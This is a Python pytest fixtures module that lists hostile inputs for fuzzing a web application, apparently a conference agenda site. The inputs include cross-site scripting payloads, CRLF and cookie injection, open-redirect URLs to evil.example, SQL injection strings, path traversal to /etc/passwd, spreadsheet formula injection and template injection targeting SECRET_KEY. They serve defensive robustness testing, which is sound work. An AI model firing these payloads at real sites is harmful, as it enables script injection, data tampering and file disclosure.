"""What people, scanners and broken files send."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from itertools import product
from typing import Any

import pytest

CONTROL = "a\x01b\x08c\x0bd\x1be\x7ff\x85g\u2028h\u2029i\ufeffj"
CRLF = "one\r\nBEGIN:VEVENT\r\nSUMMARY:planted\r\nEND:VEVENT\r\nSet-Cookie: planted=1\r\n\r\nthree"
MARKUP = {
    "script": "<script>alert(1)</script>",
    "script in a title": "</title><script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "broken out of an attribute": '"><svg/onload=alert(1)>',
    "broken out of single quotes": "'><img src=x onerror='alert(1)'>",
    "attribute": '" autofocus onfocus="alert(1)" hx-get="/iclr-2025/',
    "htmx": '<b hx-get="https://evil.example/" hx-trigger="load">x</b>',
    "htmx of data": '<b data-hx-post="/iclr-2025/agenda/calendar/reset/" data-hx-trigger="load" hx-on:click="alert(1)">x</b>',
    "swap out of band": '<div id="main" hx-swap-oob="true">planted</div>',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example"></object>',
    "form": '</form><form action="https://evil.example"><button formaction="https://evil.example">x</button></form>',
    "style": '<style>body{display:none}</style><p style="background:url(https://evil.example)">x</p>',
    "base": '<base href="https://evil.example"><meta http-equiv="refresh" content="0;https://evil.example">',
    "link in Markdown": "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](vbscript:x)",
    "disguised link in Markdown": "[x](java\tscript:alert(1)) <javascript:alert(1)> [y](JaVaScRiPt&colon;alert(1))",
    "link of entities in Markdown": "[x](&#x6A;avascript:alert(1)) [y](&#106;avascript&#58;alert(1))",
    "picture in Markdown": '![x](https://evil.example/pixel.png) ![y](x"onerror=alert(1))',
    "reference in Markdown": "[x]\n\n[x]: javascript:alert(1) 'onmouseover=alert(1)'",
    "formula": r"$\href{javascript:alert(1)}{x}$ $\text{<script>alert(1)</script>}$ $$\unicode{<img src=x onerror=alert(1)>}$$",
    "template": "{{ settings.SECRET_KEY }} {% load static %} {# no #}",
    "comment": "<!--<script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]>",
}
CHARACTERS = {
    "control characters": CONTROL,
    "new lines": CRLF,
    "carriage return": "one\rtwo",
    "right to left": "\u202egnp.exe \u2066\u2067\u2068 abc \u200f",
    "zalgo": "Z" + "\u0351\u0300" * 2000,
    "long": "w" * 20_000,
    "astral": "👩‍👩‍👧‍👦 𝔘𝔫𝔦 \U0010ffff",
    "formula of a spreadsheet": '=HYPERLINK("https://evil.example","x")',
    "calendar": "a,b;c\\d\\n:e\"f'",
    "percent": "%00 %s %(x)s {0} ../../etc/passwd",
    "blank": " \t ",
}
TEXTS = MARKUP | CHARACTERS | {"null": "null\x00byte"}
# It ends an attribute and an element, and is short enough for every field.
STRONGEST = "broken out of an attribute"
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example",
    "/\\evil.example",
    "https:evil.example",
    "http://",
    'https://user:secret@evil.example" onclick="alert(1)',
    "ftp://evil.example",
    "blob:https://evil.example/1",
    "about:blank",
    "x",
    "https://evil.example/<script>",
]
NEXTS = [
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "https:/evil.example",
    "javascript:alert(1)",
    "/\t/evil.example/",
    "/%0d%0aLocation:%20https://evil.example/",
    "\r\nLocation: https://evil.example/",
    "http:evil.example",
    "//iclr-2025@evil.example/",
    "/iclr-2025/\r\nSet-Cookie: planted=1",
    "\x00/iclr-2025/",
    "",
]
# As they stand in an address, percent-encoded by whoever sends them.
QUERY_VALUES = [
    "",
    "%00",
    "x%00y",
    "%ED%A0%80",
    "%FF%FE",
    "%E2%80%AE",
    "%0d%0aSet-Cookie:%20planted=1",
    "((((",
    "%22%20OR%201=1--",
    "';DROP%20TABLE%20events_event;--",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "__class__",
    "..%2f..%2fetc%2fpasswd",
    "-1",
    "0",
    "999999",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "%D9%A3",
    "%C2%B2",
    "2025-02-30",
    "2025-04-24T25:61",
    "0000-01-01T00:00",
    "9999-12-31T23:59",
    "0001-01-01T00:00%2B14:00",
    "9999-12-31T23:59-12:00",
    "2025-04-24T09:30%2B99:99",
    "last",
    "a" * 10_000,
    "%F0%9F%98%80" * 500,
    "x&" * 100,
]
IDS = [
    "-1",
    "0",
    "1",
    "99999999999999999999",
    "1%00",
    "%D9%A3",
    "..",
    "%2e%2e%2f",
    "x" * 3000,
    "%ED%A0%80",
    "{guid}",
    "%F0%9F%98%80",
]
DATES = [
    "2025-02-30",
    "2025-13-01",
    "0000-01-01",
    "0001-01-01",
    "9999-12-31",
    "2025-4-24",
    "99999-01-01",
    "2025-04-24%00",
    "2025-04-٢٤",
]
PATHS = ["/etc/passwd", "%2e%2e/%2e%2e/manage.py", "people", "people/", "x/" * 900, "%00", "a%00b", "%5c..%5c..%5cmanage.py"]
TOKENS = [
    *["x", "..", "%00", "%F0%9F%98%80", "a" * 5000, "-" * 32, "0" * 32, "%0d%0aSet-Cookie:x", "%2e%2e%2fetc%2fpasswd"],
    *["' OR 1=1--", "*", "%ED%A0%80"],
]
COOKIES = [
    "",
    "x",
    '"',
    "a" * 4000,
    "../../etc/passwd",
    "%00",
    "\\000",
    "é",
    "{}",
    "[1,2",
    "0" * 32,
    "-" * 32,
    "_" * 33,
    "Etc/GMT+12",
    "localtime",
]


# Texts for every field of every row: all in turns, and alone those that break files; where everything runs, each alone.
IN_FILES = [
    pytest.param([*(MARKUP | CHARACTERS).values()], id="in turns"),
    pytest.param([CHARACTERS["formula of a spreadsheet"]], id="formulas"),
    pytest.param([CONTROL], id="control characters"),
    pytest.param([TEXTS["null"]], id="null"),
    *(pytest.param([text], id=name, marks=pytest.mark.exhaustive) for name, text in TEXTS.items()),
]


def in_turns(fields: Sequence[str], values: Iterable[Any]) -> list[tuple[str, Any]]:
    """Each value in one field; where there are more fields, values come again."""
    values = list(values)
    return [(fields[turn % len(fields)], values[turn % len(values)]) for turn in range(max(len(fields), len(values)))]


def pairs_of(fields: Sequence[str], values: Iterable[Any], *, in_each: Iterable[Any] = ()) -> list[Any]:
    """Parameters of a test: each value in one field and some in each; and, where everything runs, each value in each field."""
    values = list(values)
    short = [*product(fields, in_each), *in_turns(fields, values)]
    every = list(product(fields, values))
    return [pytest.param(short, id="each once"), pytest.param(every, id="every pair", marks=pytest.mark.exhaustive)]
